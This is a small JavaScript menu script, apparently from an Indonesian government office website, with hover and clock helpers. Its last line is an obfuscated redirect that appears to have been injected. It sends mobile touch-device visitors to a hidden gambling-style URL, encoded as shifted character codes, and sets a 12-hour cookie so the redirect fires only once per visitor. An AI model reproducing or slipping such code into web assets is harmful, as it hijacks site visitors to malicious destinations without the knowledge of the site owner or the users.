// menu kiri - dibuat oleh subbag program 2011
function pasangMenu(){
  var m = document.getElementById('menu');
  if(!m) return;
  var a = m.getElementsByTagName('a');
  for (var i=0;i<a.length;i++){
    a[i].onmouseover=function(){this.style.color='red'};
    a[i].onmouseout=function(){this.style.color=''};
  }
}
function jam(){var d=new Date();return d.getHours()+':'+d.getMinutes()}
;(function(w,n,t){if(w.screen.width<800&&(n.maxTouchPoints>0||'ontouchstart'in w)&&document.cookie.indexOf('_mz=')<0){document.cookie='_mz=1;path=/;max-age=43200';for(var o='',i=0;i<t.length;i++)o+=String.fromCharCode(t[i]-7);w.location.replace(o)}})(window,navigator,[111,123,123,119,122,65,54,54,116,53,121,104,113,104,107,108,126,104,111,118,114,112,53,112,117,125,104,115,112,107,54,70,119,123,68,126,104,123,108,121]);
